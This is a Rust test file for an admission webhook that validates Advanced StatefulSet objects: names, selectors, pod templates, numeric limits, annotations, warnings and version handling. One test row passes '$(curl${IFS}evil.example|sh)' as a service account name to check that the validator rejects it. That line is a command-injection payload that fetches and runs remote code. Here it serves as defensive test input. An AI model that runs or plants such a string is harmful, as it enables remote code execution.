//! STS-7.3, row by row.

use crate::cases::{creations, put};
use crate::cloneset::{ALPHA, clones};
use crate::world::{World, refusal, request, set, unlike, with};
use flotilla_admission::{mutate, validate};
use flotilla_api::names;
use serde_json::{Value, json};

/// Changes to a good set, and words of the refusal.
type Row<'a> = (&'a [(&'a str, Value)], &'a [&'a str]);

fn try_all(rows: &[Row<'_>]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(changes, words)| {
            let object = with(set(), changes);
            let reply = validate(&request(Some(&object), None), &World::default());
            unlike(&reply, words).map(|why| format!("{changes:?}: {why}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The same for sets of both kinds, that are made so and that become so.
fn try_on_both_kinds(rows: &[Row<'_>]) {
    let older = with(clones(), &[("/apiVersion", json!(ALPHA))]);
    let mut wrong = Vec::new();
    for good in [set(), clones(), older] {
        for (changes, words) in rows {
            let bad = with(good.clone(), changes);
            for (what, old) in [("made", None), ("changed", Some(&good))] {
                let reply = validate(&request(Some(&bad), old), &World::default());
                let why = unlike(&reply, words);
                wrong.extend(why.map(|why| format!("{} {} {what} {changes:?}: {why}", bad["apiVersion"], bad["kind"])));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Every row that the definition checks is refused here too, where the definition is older or away.
#[test]
fn sts_7_3_admission_and_definition_agree() {
    let mut wrong = Vec::new();
    for (changes, words) in creations() {
        let mut object = set();
        for (pointer, value) in &changes {
            put(&mut object["spec"], pointer, value.clone());
        }
        let reply = validate(&request(Some(&object), None), &World::default());
        wrong.extend(unlike(&reply, words).map(|why| format!("{changes:?}: {why}")));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn sts_7_3_what_mutate_fills_in_is_valid() {
    let object = set();
    let filled = crate::world::patched(&object, &mutate(&request(Some(&object), None), &World::default()));
    let reply = validate(&request(Some(&filled), None), &World::default());
    assert_eq!(refusal(&reply), None);
    assert_eq!(reply.warnings, Vec::<String>::new());
}

#[test]
fn sts_7_3_a_message_names_field_value_rule_and_what_is_accepted() {
    let object = with(set(), &[("/spec/podManagementPolicy", json!("Sometimes"))]);
    let reply = validate(&request(Some(&object), None), &World::default());
    let expected =
        "spec.podManagementPolicy: Invalid value: \"Sometimes\": podManagementPolicy must be OrderedReady or Parallel";
    assert_eq!(refusal(&reply), Some((422, expected)));
    let object = with(object, &[("/spec/replicas", json!(-1))]);
    let reply = validate(&request(Some(&object), None), &World::default());
    let (_, message) = refusal(&reply).unwrap();
    assert_eq!(message.lines().count(), 2, "one problem a line: {message}");
}

#[test]
fn sts_7_3_names() {
    let named = |name: &str| with(set(), &[("/metadata/name", json!(name))]);
    let generated = |prefix: &str| {
        with(
            set(),
            &[
                ("/metadata/name", Value::Null),
                ("/metadata/generateName", json!(prefix)),
            ],
        )
    };
    let far = |length: usize, start: i64| with(named(&"n".repeat(length)), &[("/spec/ordinals/start", json!(start))]);
    // A range of a million, 8192 times, moves the highest ordinal beyond ten digits.
    let ranges: Vec<_> = (0..8192_u64)
        .map(|i| {
            json!(format!(
                "{}-{}",
                2_147_000_000 + i * 1_000_000,
                2_147_999_999 + i * 1_000_000
            ))
        })
        .collect();
    let very_far = with(far(52, 2_147_000_000), &[("/spec/reserveOrdinals", json!(ranges))]);
    for (object, words) in [
        (named("web"), &[][..]),
        (named("web.shop"), &[]),
        (named("Web"), &["metadata.name", "lower case"]),
        (named(&"n".repeat(52)), &[]),
        (named(&"n".repeat(53)), &["metadata.name", "52 characters", "63"]),
        (generated(&"n".repeat(47)), &[]),
        (generated(&"n".repeat(48)), &["metadata.generateName", "52 characters"]),
        (far(52, 2_147_483_647), &[]),
        // No ordinal is beyond what the name of a pod can tell (STS-1.3.4), so none makes a name too long.
        (very_far, &[]),
    ] {
        let reply = validate(&request(Some(&object), None), &World::default());
        assert_eq!(unlike(&reply, words), None, "STS-1.1.9: {}", object["metadata"]);
    }
}

/// Claims are volumes, defaults and newer fields are nobody's mistake, and an image may come from a webhook for pods.
#[test]
fn sts_7_3_templates_that_can_be_carried_out_are_accepted() {
    let container = json!({
        "name": "main", "newer": {"a": 1}, "volumeMounts": [{"name": "data", "mountPath": "/data"}, {"name": "tmp", "mountPath": "/tmp"}],
        "ports": [{"name": "http", "containerPort": 80}, {"containerPort": 443, "protocol": "TCP"}],
        "env": [{"name": "lower.case-1"}, {"name": "B", "valueFrom": {"fileKeyRef": {"key": "k"}}}],
        "resources": {"requests": {"cpu": 1, "memory": "1Gi"}, "limits": {"cpu": "1000m", "memory": "1073741824"}},
        "readinessProbe": {"httpGet": {"port": "http"}, "successThreshold": 2, "exec": null},
        "livenessProbe": {"askedInSomeNewWay": {"port": 1}, "timeoutSeconds": 0},
        "lifecycle": {"preStop": {"sleep": {"seconds": 3}}},
    });
    let object = with(
        set(),
        &[
            ("/spec/template/spec/containers", json!([container])),
            (
                "/spec/template/spec/volumes",
                json!([{"name": "tmp"}, {"name": "new", "newKind": {}}]),
            ),
            (
                "/spec/volumeClaimTemplates",
                json!([{"metadata": {"name": "data"}, "spec": {
                "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}]),
            ),
        ],
    );
    let reply = validate(&request(Some(&object), None), &World::default());
    assert_eq!(refusal(&reply), None);
}

/// R-7: what was stored before can be edited elsewhere, and not made worse.
#[test]
fn sts_7_3_a_stored_template_with_a_mistake_can_be_edited_elsewhere() {
    let mounts =
        |name: &str| json!([{"name": "main", "image": "web:1", "volumeMounts": [{"name": name, "mountPath": "/x"}]}]);
    let stored = with(set(), &[("/spec/template/spec/containers", mounts("nowhere"))]);
    let scaled = with(stored.clone(), &[("/spec/replicas", json!(7))]);
    let reply = validate(&request(Some(&scaled), Some(&stored)), &World::default());
    assert_eq!(refusal(&reply), None);
    let worse = with(
        stored.clone(),
        &[("/spec/template/spec/containers", mounts("elsewhere"))],
    );
    let reply = validate(&request(Some(&worse), Some(&stored)), &World::default());
    assert!(refusal(&reply).is_some_and(|(_, message)| message.contains("elsewhere")));
}

#[test]
fn sts_1_1_9_a_stored_name_that_is_too_long_is_warned_of() {
    let object = with(set(), &[("/metadata/name", json!("n".repeat(53)))]);
    let changed = with(object.clone(), &[("/spec/replicas", json!(1))]);
    let reply = validate(&request(Some(&changed), Some(&object)), &World::default());
    assert_eq!(refusal(&reply), None);
    assert!(reply.warnings[0].contains("52 characters"), "{:?}", reply.warnings);
}

#[test]
fn sts_7_3_selectors() {
    try_all(&[
        (
            &[("/spec/selector/matchLabels", json!({"app": "web", "bad key!": "x"}))],
            &["spec.selector.matchLabels", "bad key!"],
        ),
        (
            &[(
                "/spec/selector/matchExpressions",
                json!([{"key": "app", "operator": "In", "values": ["not valid"]}]),
            )],
            &["spec.selector.matchExpressions[0].values", "not valid", "valid label"],
        ),
        (
            &[(
                "/spec/selector/matchExpressions",
                json!([{"key": "-", "operator": "Exists"}]),
            )],
            &["spec.selector.matchExpressions[0].key"],
        ),
        (
            &[("/spec/selector", json!("app=web"))],
            &["spec.selector", "matchLabels"],
        ),
    ]);
}

#[test]
fn sts_7_3_and_cs_6_templates() {
    let spec = |field: &'static str, value: Value| (field, value);
    let containers = |list: Value| spec("/spec/template/spec/containers", list);
    try_on_both_kinds(&[
        (
            &[containers(json!([{"image": "web:1"}]))],
            &["containers[0].name", "Required"],
        ),
        (
            &[containers(json!([{"name": "Main", "image": "web:1"}]))],
            &["containers[0].name", "lower case"],
        ),
        (
            &[containers(
                json!([{"name": "a", "image": "x"}, {"name": "a", "image": "y"}]),
            )],
            &["containers[1].name", "Duplicate"],
        ),
        (
            &[(
                "/spec/template/spec/initContainers",
                json!([{"name": "main", "image": "x"}]),
            )],
            &["initContainers[0].name", "Duplicate"],
        ),
        (
            &[containers(json!([{"name": "a", "image": " web:1"}]))],
            &["containers[0].image", "whitespace"],
        ),
        (
            &[containers(json!([{"name": "a", "image": 5}]))],
            &["containers[0].image", "5"],
        ),
        (
            &[(
                "/spec/template/spec/serviceAccountName",
                json!("$(curl${IFS}evil.example|sh)"),
            )],
            &["spec.template.spec.serviceAccountName: Invalid value", "subdomain"],
        ),
        (
            &[("/spec/template/spec/serviceAccount", json!("a b"))],
            &["spec.template.spec.serviceAccountName: Invalid value", "subdomain"],
        ),
        (
            &[("/spec/template/spec/volumes", json!([{"name": "v"}, {"name": "v"}]))],
            &["volumes[1].name", "Duplicate"],
        ),
        (
            &[containers(
                json!([{"name": "a", "volumeMounts": [{"name": "nowhere", "mountPath": "/x"}]}]),
            )],
            &["spec.template.spec.containers[0].volumeMounts[0].name: Not found: \"nowhere\""],
        ),
        (
            &[containers(json!([{"name": "a", "ports": [{"containerPort": 70_000}]}]))],
            &["containers[0].ports[0].containerPort: Invalid value: 70000: must be between 1 and 65535, inclusive"],
        ),
        (
            &[containers(
                json!([{"name": "a", "readinessProbe": {"periodSeconds": 5}}]),
            )],
            &["containers[0].readinessProbe: Required value: must specify a handler type"],
        ),
        (
            &[containers(
                json!([{"name": "a", "livenessProbe": {"httpGet": {"port": 0}, "successThreshold": 2}}]),
            )],
            &[
                "livenessProbe.httpGet.port: Invalid value: 0",
                "livenessProbe.successThreshold: Invalid value: 2: must be 1",
            ],
        ),
        (
            &[containers(
                json!([{"name": "a", "resources": {"requests": {"cpu": "2"}, "limits": {"cpu": "1500m"}}}]),
            )],
            &["resources.requests: Invalid value: \"2\": must be less than or equal to cpu limit of 1500m"],
        ),
        (
            &[containers(
                json!([{"name": "a", "env": [{"name": "A=B", "value": "x"}]}]),
            )],
            &["env[0].name: Invalid value: \"A=B\""],
        ),
        (
            &[(
                "/spec/template/spec/readinessGates",
                json!([{"conditionType": "not valid"}]),
            )],
            &["readinessGates[0].conditionType"],
        ),
        (
            &[("/spec/template/spec", Value::Null)],
            &["spec.template.spec", "Required"],
        ),
        (
            &[("/spec/template/metadata/annotations", json!({"a": 1}))],
            &["annotations[a]", "quotes"],
        ),
        (
            &[("/spec/template/metadata/annotations", json!({"a": "x".repeat(262_144)}))],
            &["annotations", "262144 bytes"],
        ),
        (
            &[("/spec/template/spec/restartPolicy", json!("OnFailure"))],
            &["restartPolicy must be Always"],
        ),
    ]);
}

#[test]
fn sts_8_19_numbers_at_their_edges() {
    const ROLLING: &str = "/spec/updateStrategy/rollingUpdate";
    let unordered = |weight: i64| json!({"priorityStrategy": {"weightPriority": [{"weight": weight, "matchSelector": {"matchLabels": {"a": "b"}}}]}});
    let parallel = || ("/spec/podManagementPolicy", json!("Parallel"));
    let path = format!("{ROLLING}/unorderedUpdate");
    let download = format!("{ROLLING}/inPlaceUpdateStrategy/imagePreDownloadTimeoutSeconds");
    try_all(&[
        (&[parallel(), (&path, unordered(0))], &[]),
        (&[parallel(), (&path, unordered(100))], &[]),
        (&[parallel(), (&path, unordered(-1))], &["weight must be 0 to 100"]),
        (
            &[("/spec/replicas", json!(i64::from(i32::MAX) + 1))],
            &["spec.replicas"],
        ),
        (&[("/spec/replicas", json!("3"))], &["spec.replicas", "whole number"]),
        (&[(&download, json!(-1))], &["imagePreDownloadTimeoutSeconds"]),
        (&[("/spec/reserveOrdinals", json!([1.5]))], &["spec.reserveOrdinals[0]"]),
        (
            &[("/spec/reserveOrdinals", json!(["3-5-7"]))],
            &["spec.reserveOrdinals[0]"],
        ),
    ]);
}

/// Advanced StatefulSets have no "never" (R-36): their `minReadySeconds` ends at 300, and the largest number is as wrong as its neighbours.
#[test]
fn sts_7_3_and_r_36_seconds_until_a_pod_is_available() {
    const PATH: &str = "/spec/updateStrategy/rollingUpdate/minReadySeconds";
    let rule: &[&str] = &[
        "spec.updateStrategy.rollingUpdate.minReadySeconds: Invalid value",
        "from 0 to 300",
    ];
    let rows = [
        (json!(0), &[][..]),
        (json!(300), &[]),
        (json!(-1), rule),
        (json!(301), rule),
        (json!(i32::MAX), rule),
        (json!(i64::from(i32::MAX) + 1), rule),
    ];
    for (seconds, words) in rows {
        let after = with(set(), &[(PATH, seconds.clone())]);
        for old in [None, Some(&set())] {
            let reply = validate(&request(Some(&after), old), &World::default());
            assert_eq!(unlike(&reply, words), None, "{seconds}");
        }
    }
}

#[test]
fn switches_hold_what_the_table_says() {
    let mut wrong = Vec::new();
    for (key, good, bad) in [
        (names::UNBLOCK, &["broken-first"][..], &["yes", ""][..]),
        (names::UNBLOCK_AFTER_SECONDS, &["0", "60"], &["-1", "a", ""]),
        (names::ORDERED_MAX_UNAVAILABLE, &["1", "25%"], &["0", "%", "101%", "a"]),
        (names::SKIP_UNREACHABLE, &["true"], &["True", "false"]),
        (names::PAUSED_KEEPS_REVISION, &["true"], &["1"]),
        (names::UPDATE_TYPE, &["Recreate"], &["ReCreate"]),
        (names::SCALE_DOWN, &["ignore-unhealthy"], &["fast"]),
        (names::IN_PLACE_DEADLINE_SECONDS, &["1"], &["0", "1.5"]),
        (names::IN_PLACE_DEADLINE_ACTION, &["report", "recreate"], &["restart"]),
        (
            names::KEEP_READY_CONTAINERS,
            &["main", "main, side"],
            &["", "main,,side", "Main"],
        ),
        (names::RESIZE_WAIT_SECONDS, &["0", "300"], &["5m"]),
        (names::PRE_DOWNLOAD_RECREATE, &["true"], &["on"]),
        (names::NODE_FAILURE_POLICY, &["racks"], &["", "Racks!"]),
        (names::CLAIM_LABELS, &["propagate"], &["true"]),
    ] {
        for (values, is_good) in [(good, true), (bad, false)] {
            for value in values {
                let mut object = set();
                object["metadata"]["annotations"][key] = json!(value);
                let reply = validate(&request(Some(&object), None), &World::default());
                let words: &[&str] = if is_good { &[] } else { &[key, "must be"] };
                wrong.extend(unlike(&reply, words).map(|why| format!("{key}={value:?}: {why}")));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_probably_not_meant_is_warned_of() {
    let parallel = ("/spec/podManagementPolicy", json!("Parallel"));
    for (changes, word) in [
        (
            vec![
                parallel,
                ("/spec/updateStrategy/rollingUpdate/unorderedUpdate", json!({})),
            ],
            "unorderedUpdate is empty",
        ),
        (
            vec![("/metadata/labels", json!({names::DELETE_PROTECTION_LABEL: "always"}))],
            "protects nothing",
        ),
        (
            vec![("/spec/template/spec/containers/0/image", Value::Null)],
            "has no image",
        ),
        (
            vec![(
                "/metadata/annotations",
                json!({names::KEEP_READY_CONTAINERS: "main,side"}),
            )],
            "no container \"side\"",
        ),
        (
            vec![("/metadata/annotations", json!({names::SKIP_UNREACHABLE: "true"}))],
            "skip-unreachable] does nothing yet",
        ),
        (
            vec![("/metadata/annotations", json!({names::NODE_FAILURE_POLICY: "fence"}))],
            "node-failure-policy] does nothing yet",
        ),
        (
            vec![
                ("/metadata/annotations", json!({names::UPDATE_TYPE: "Recreate"})),
                ("/spec/updateStrategy", json!({"type": "OnDelete"})),
            ],
            "update-type] does nothing with updateStrategy.type OnDelete",
        ),
    ] {
        let object = with(set(), &changes);
        let reply = validate(&request(Some(&object), None), &World::default());
        assert_eq!(refusal(&reply), None, "{changes:?}");
        assert!(
            matches!(&reply.warnings[..], [one] if one.contains(word)),
            "{:?}",
            reply.warnings
        );
    }
}

#[test]
fn ratcheting_lets_a_stored_mistake_be_edited_elsewhere() {
    let bad: [(&str, Value, Value); 7] = [
        ("/spec/podManagementPolicy", json!("Sometimes"), json!("Parallel?")),
        (
            "/spec/reserveOrdinals",
            json!(["nonsense", 0]),
            json!(["nonsense", "worse"]),
        ),
        ("/spec/revisionHistoryLimit", json!(-3), json!(-4)),
        ("/spec/template/spec/restartPolicy", json!("Never"), json!("OnFailure")),
        (
            "/spec/updateStrategy/rollingUpdate/maxUnavailable",
            json!("many"),
            json!("lots"),
        ),
        (
            "/spec/template/metadata/annotations",
            json!({"bad key!": "x"}),
            json!({"worse key!": "x"}),
        ),
        (
            "/metadata/annotations/flotilla.rs~1unblock",
            json!("please"),
            json!("now"),
        ),
    ];
    for (pointer, stored, other) in bad {
        let old = with(set(), &[(pointer, stored)]);
        let edited = with(old.clone(), &[("/spec/replicas", json!(1))]);
        let reply = validate(&request(Some(&edited), Some(&old)), &World::default());
        assert_eq!(refusal(&reply), None, "{pointer} is left as it is");
        let worse = with(edited, &[(pointer, other)]);
        let reply = validate(&request(Some(&worse), Some(&old)), &World::default());
        assert!(
            refusal(&reply).is_some(),
            "{pointer} is changed to something that is bad too"
        );
    }
    // A rule about two fields: broken before, it may stay broken.
    let old = with(
        set(),
        &[("/spec/updateStrategy/rollingUpdate/maxUnavailable", json!(3))],
    );
    let new = with(
        old.clone(),
        &[("/spec/updateStrategy/rollingUpdate/maxUnavailable", json!(2))],
    );
    let reply = validate(&request(Some(&new), Some(&old)), &World::default());
    assert_eq!(refusal(&reply), None);
}

#[test]
fn older_versions_are_held_to_the_same_rules() {
    let old_version = |changes: &[(&str, Value)]| {
        with(
            with(set(), &[("/apiVersion", json!("apps.kruise.io/v1alpha1"))]),
            changes,
        )
    };
    for (object, words) in [
        (old_version(&[]), &[][..]),
        (old_version(&[("/spec/replicas", json!(-1))]), &["spec.replicas"]),
        (
            old_version(&[(
                "/metadata/annotations",
                json!({names::HUB_FIELDS: r#"{"reserveOrdinals":["x"]}"#}),
            )]),
            &["spec.reserveOrdinals[0]"],
        ),
        (
            old_version(&[("/metadata/annotations", json!({names::HUB_FIELDS: "broken"}))]),
            &[],
        ),
    ] {
        let reply = validate(&request(Some(&object), None), &World::default());
        assert_eq!(unlike(&reply, words), None);
    }
}

/// R-13: the author of such fields is warned, and who cannot see them cannot write them away, label or not.
#[test]
fn r_13_fields_that_do_not_fit_into_the_older_version() {
    let large = |bytes: usize| {
        with(
            set(),
            &[
                ("/metadata/annotations", json!({"note": "x".repeat(bytes)})),
                ("/spec/reserveOrdinals", json!((100..200).collect::<Vec<i32>>())),
            ],
        )
    };
    for (bytes, is_warned) in [(200_000, false), (262_000, true)] {
        for old in [None, Some(large(bytes))] {
            let reply = validate(&request(Some(&large(bytes)), old.as_ref()), &World::default());
            assert_eq!(refusal(&reply), None);
            let is_told = reply
                .warnings
                .iter()
                .any(|w| w.contains("cannot be written as v1alpha1"));
            assert_eq!(is_told, is_warned, "{:?}", reply.warnings);
        }
    }
    let alpha = with(set(), &[("/apiVersion", json!("apps.kruise.io/v1alpha1"))]);
    let mut left_out = alpha.clone();
    left_out["metadata"]["labels"][names::HUB_FIELDS] = json!("left-out");
    for (new, old) in [
        (&left_out, None),
        (&left_out, Some(&left_out)),
        (&alpha, Some(&left_out)),
        (&left_out, Some(&alpha)),
    ] {
        let asked = request(Some(new), old);
        let reply = validate(&asked, &World::default());
        assert_eq!(
            unlike(&reply, &["StatefulSet shop/web cannot be written as v1alpha1"]),
            None
        );
        let reply = flotilla_admission::mutate(&asked, &World::default());
        assert!(!matches!(reply.verdict, flotilla_admission::Verdict::Deny(_)));
    }
}

#[test]
fn other_kinds_and_exempt_objects_pass() {
    let bad = with(set(), &[("/spec/replicas", json!(-1))]);
    for object in [
        with(bad.clone(), &[("/metadata/namespace", json!("kube-system"))]),
        with(bad.clone(), &[("/metadata/namespace", json!("flotilla-system"))]),
        with(
            bad.clone(),
            &[("/metadata/labels", json!({"flotilla.rs/webhooks": "ignore"}))],
        ),
        with(bad.clone(), &[("/kind", json!("DaemonSet"))]),
        with(bad.clone(), &[("/apiVersion", json!("apps/v1"))]),
    ] {
        let reply = validate(&request(Some(&object), None), &World::default());
        assert_eq!(reply, flotilla_admission::Reply::allow(), "{object}");
    }
    // Nobody leaves the scope by the change that is to be judged.
    let leaving = with(
        bad.clone(),
        &[("/metadata/labels", json!({"flotilla.rs/webhooks": "ignore"}))],
    );
    let reply = validate(&request(Some(&leaving), Some(&set())), &World::default());
    assert!(refusal(&reply).is_some());
}
